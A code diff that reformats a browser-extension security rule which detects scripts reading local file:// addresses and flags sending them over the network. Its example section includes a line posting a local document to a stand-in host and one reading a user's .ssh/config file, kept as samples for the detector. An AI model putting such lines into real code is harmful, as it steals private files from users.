@@ -15,20 +15,38 @@ export const readsLocalFiles = defineRule({
   why: 'Where the person allowed access to file addresses, the extension can read documents, keys and settings of the whole computer.',
   remedy: 'Let the person choose a file, by an input or a drop.',
   check: checkScripts(function* ({ script, hit }) {
-    for (const call of callsOf(script, 'fetch', 'XMLHttpRequest().open', '$.get', 'chrome.tabs.create', 'XMLHttpRequest')) {
+    for (const call of callsOf(
+      script,
+      'fetch',
+      'XMLHttpRequest().open',
+      '$.get',
+      'chrome.tabs.create',
+      'XMLHttpRequest',
+    )) {
       const to = call.args.map((arg) => pattern(script, arg)).find((text) => /^file:\/\/\/?[\w%*]/i.test(text));
       if (to === undefined) continue;
       const out = leavesBy(script, new Set([call.value]), ['network']);
-      yield hit(call.value, out !== undefined && out.value !== call.value ? { severity: 'critical', evidence: to, message: `They are sent to ${out.to}.` } : { evidence: to });
+      yield hit(
+        call.value,
+        out !== undefined && out.value !== call.value
+          ? { severity: 'critical', evidence: to, message: `They are sent to ${out.to}.` }
+          : { evidence: to },
+      );
     }
   }),
   examples: {
     bad: [
-      backgroundExample('fetch("file:///C:/Users/me/Documents/list.txt").then((r) => r.text()).then((t) => fetch("https://x.example/f", { method: "POST", body: t }));'),
-      backgroundExample('const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/.ssh/config"); x.send();'),
+      backgroundExample(
+        'fetch("file:///C:/Users/me/Documents/list.txt").then((r) => r.text()).then((t) => fetch("https://x.example/f", { method: "POST", body: t }));',
+      ),
+      backgroundExample(
+        'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/.ssh/config"); x.send();',
+      ),
     ],
     good: [
-      backgroundExample('if (location.protocol === "file:") explain(); const url = "file:///"; if (tab.url.startsWith(url)) skip();'),
+      backgroundExample(
+        'if (location.protocol === "file:") explain(); const url = "file:///"; if (tab.url.startsWith(url)) skip();',
+      ),
       backgroundExample('fetch(URL.createObjectURL(input.files[0])).then((r) => r.text()).then(show);'),
     ],
   },
